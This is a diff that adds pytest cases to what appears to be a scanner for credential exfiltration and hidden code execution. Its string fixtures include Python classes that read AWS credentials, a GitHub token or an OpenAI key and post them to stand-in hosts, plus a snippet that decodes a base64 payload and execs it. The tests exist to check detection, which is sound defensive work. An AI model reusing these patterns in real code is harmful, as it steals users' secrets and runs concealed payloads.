@@ -472,3 +472,65 @@ def test_a_credential_store_added_to_an_archive_is_read() -> None:
         "with tarfile.open('b.tgz', 'w:gz') as t:\n    t.add(p)\n"
     )
     assert "SKC-FL-051" in _rules(code)
+
+
+SENT_FROM_AN_OBJECT = [
+    # set in __init__, sent by another method; the object built with its argument
+    "import os, requests\nclass Sync:\n    URL = 'https://collector.example/in'\n"
+    "    def __init__(self, where):\n        self.blob = open(os.path.expanduser(where)).read()\n"
+    "    def push(self):\n        requests.post(self.URL, data=self.blob)\n"
+    "Sync('~/.aws/credentials').push()\n",
+    # renamed, the instance kept in a variable, urllib's Request with the body positional
+    "import os\nimport urllib.request as u\nclass Beacon:\n"
+    "    def __init__(self):\n        self.state = {'t': os.environ['GITHUB_TOKEN']}\n"
+    "    def fire(self):\n        body = str(self.state).encode()\n"
+    "        u.urlopen(u.Request('https://203.0.113.9/b', body))\n"
+    "b = Beacon()\nb.fire()\n",
+    # a class attribute set through cls in a classmethod, read by a method
+    "import os, httpx\nclass Cache:\n    @classmethod\n    def load(cls):\n"
+    "        cls.key = os.getenv('OPENAI_API_KEY')\n"
+    "    def warm(self):\n        httpx.post('https://warm.example/k', json={'k': self.key})\n"
+    "Cache.load()\nCache().warm()\n",
+]
+
+
+@pytest.mark.parametrize("code", SENT_FROM_AN_OBJECT)
+def test_what_one_method_stores_another_sends_is_followed(code: str) -> None:
+    assert _rules(code) & {"SKC-FL-003", "SKC-FL-004"}
+
+
+DECODED_IN_ONE_METHOD_RUN_IN_ANOTHER = (
+    "import base64, zlib\nclass Profile:\n    def __init__(self, raw):\n"
+    "        self.table = zlib.decompress(base64.b64decode(raw))\n"
+    "    def warm(self):\n        exec(compile(self.table, 'p', 'exec'), {})\n"
+    "Profile(open('assets/p.b64').read()).warm()\n"
+)
+
+
+def test_decoded_data_stored_on_the_object_and_run_later_is_found() -> None:
+    assert "SKC-FL-002" in _rules(DECODED_IN_ONE_METHOD_RUN_IN_ANOTHER)
+
+
+OBJECTS_THAT_SEND_WHAT_THEY_SHOULD = [
+    # the vendor's key to the vendor's own API, stored on the object first
+    "import os, requests\nclass Client:\n    BASE = 'https://api.openai.com/v1'\n"
+    "    def __init__(self):\n        self.key = os.environ['OPENAI_API_KEY']\n"
+    "    def ask(self, q):\n        return requests.post(self.BASE + '/responses',\n"
+    "            headers={'Authorization': f'Bearer {self.key}'}, json={'input': q})\n"
+    "Client().ask('hi')\n",
+    # a report of the user's own data to the user's own local server
+    "import json, requests\nclass Report:\n    def __init__(self, rows):\n"
+    "        self.rows = rows\n    def send(self):\n"
+    "        requests.post('http://localhost:8080/report', data=json.dumps(self.rows))\n"
+    "Report([1, 2]).send()\n",
+    # the credential is only checked for existence, never sent
+    "import os, requests\nclass Probe:\n    def __init__(self):\n"
+    "        self.has_key = 'OPENAI_API_KEY' in os.environ\n"
+    "    def ping(self):\n        requests.post('https://status.example/ping', json={'ok': True})\n"
+    "Probe().ping()\n",
+]
+
+
+@pytest.mark.parametrize("code", OBJECTS_THAT_SEND_WHAT_THEY_SHOULD)
+def test_objects_sending_ordinary_requests_are_not_exfiltration(code: str) -> None:
+    assert not _rules(code) & {"SKC-FL-003", "SKC-FL-004", "SKC-FL-002"}
